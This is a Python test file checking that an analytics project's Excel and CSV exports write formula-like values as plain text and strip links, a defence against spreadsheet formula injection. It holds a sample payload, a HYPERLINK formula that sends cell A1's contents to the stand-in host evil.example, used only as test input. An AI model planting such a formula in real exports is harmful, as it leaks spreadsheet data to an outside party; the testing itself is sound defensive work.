"""No cell written for a spreadsheet is read as a formula or a link (review 4.2), read back from the files."""
import datetime as dt
import io

import openpyxl
import pandas as pd

from analytics.analyses.bieu06 import official_table
from analytics.model.periods import Period
from analytics.outputs.bieu06_xlsx import xlsx_bytes
from analytics.outputs.safe_cells import safe_frame, safe_text
from ui import tables

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
Q1 = Period(dt.date(2019, 1, 1), dt.date(2019, 3, 31))


def cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def test_the_bieu06_workbook_writes_a_formula_like_unit_name_as_text(dossiers):
    d = dossiers([{"received": "2019-01-03", "completed": "2019-01-04", "unit": EVIL},
                  {"received": "2019-01-03", "unit": "http://evil.example"}])
    data = xlsx_bytes(official_table(d, Q1, by="unit"), quality_lines=["@SUM(1+1)"])
    written = cells(data)
    assert any(c.value == EVIL and c.data_type == "s" for c in written)
    assert all(c.data_type != "f" for c in written) and all(c.hyperlink is None for c in written)


def test_downloads_of_the_screens_keep_text_as_text():
    frame = pd.DataFrame({"Giá trị": [EVIL, "+84 912", "-1", "@x", "bình thường", 5]})
    written = cells(tables.xlsx(frame))
    assert [c.value for c in written][1] == EVIL and all(c.data_type != "f" for c in written)
    csv = tables.csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert csv[1].startswith('"\'=HYPERLINK') and csv[2] == "'+84 912" and csv[3] == "'-1" and csv[4] == "'@x"
    assert csv[5] == "bình thường" and csv[6] == "5"


def test_safe_text_leaves_numbers_and_plain_text_alone():
    assert safe_text(12) == 12 and safe_text("Hộ tịch") == "Hộ tịch" and safe_text("=1+2") == "'=1+2"
    assert list(safe_frame(pd.DataFrame({"=x": ["a"]})).columns) == ["'=x"]
